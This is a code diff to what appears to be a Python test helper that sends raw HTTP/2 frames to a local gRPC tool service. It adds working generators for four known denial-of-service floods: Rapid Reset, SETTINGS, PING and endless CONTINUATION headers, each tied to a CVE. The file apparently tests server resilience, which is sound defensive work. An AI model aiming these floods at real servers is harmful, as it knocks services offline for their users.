@@ -7,21 +7,16 @@ from __future__ import annotations
 
 import socket
 import struct
+from collections.abc import Iterator
 
 from attempts import SOCKET
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
-    0,
-    1,
-    2,
-    3,
-    4,
-    6,
-    8,
-    9,
-)
-END_STREAM, END_HEADERS, ACK = 1, 4, 1
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
+PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
+END_HEADERS = 4
+FRAMES = 40_000
+"""Frames of a flood."""
 TIMEOUT_S = 2.0
 """Time in which the server must read; afterwards the connection counts as closed, seconds."""
 CALL = "/fumehood.v1.ToolService/CallTool"
@@ -40,15 +35,9 @@ def header(name: str, value: bytes | str) -> bytes:
 
 def request_headers(path: str = CALL, extra: bytes = b"") -> bytes:
     """Return the header block of a call."""
-    return (
-        header(":method", "POST")
-        + header(":scheme", "http")
-        + header(":path", path)
-        + header(":authority", "localhost")
-        + header("content-type", "application/grpc")
-        + header("te", "trailers")
-        + extra
-    )
+    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
+    fields |= {"content-type": "application/grpc", "te": "trailers"}
+    return b"".join(header(*field) for field in fields.items()) + extra
 
 
 def open_stream(
@@ -102,6 +91,31 @@ class Connection:
     def close(self) -> None:
         """Close the connection."""
         self._socket.close()
+
+
+def rapid_resets() -> Iterator[bytes]:
+    """Begin and cancel calls (CVE-2023-44487)."""
+    for stream in range(1, 2 * FRAMES, 2):
+        yield open_stream(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+def settings() -> Iterator[bytes]:
+    """Change a setting repeatedly; the server must acknowledge each change (CVE-2019-9515)."""
+    for number in range(FRAMES):
+        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))
+
+
+def pings() -> Iterator[bytes]:
+    """Send pings without end (CVE-2019-9512)."""
+    for number in range(FRAMES):
+        yield frame(PING, 0, 0, struct.pack(">Q", number))
+
+
+def endless_headers() -> Iterator[bytes]:
+    """Send headers that never end (such as CVE-2024-27316)."""
+    yield frame(HEADERS, 0, 1, request_headers())
+    for number in range(FRAMES):
+        yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200))
 
 
 def _string(text: bytes) -> bytes:
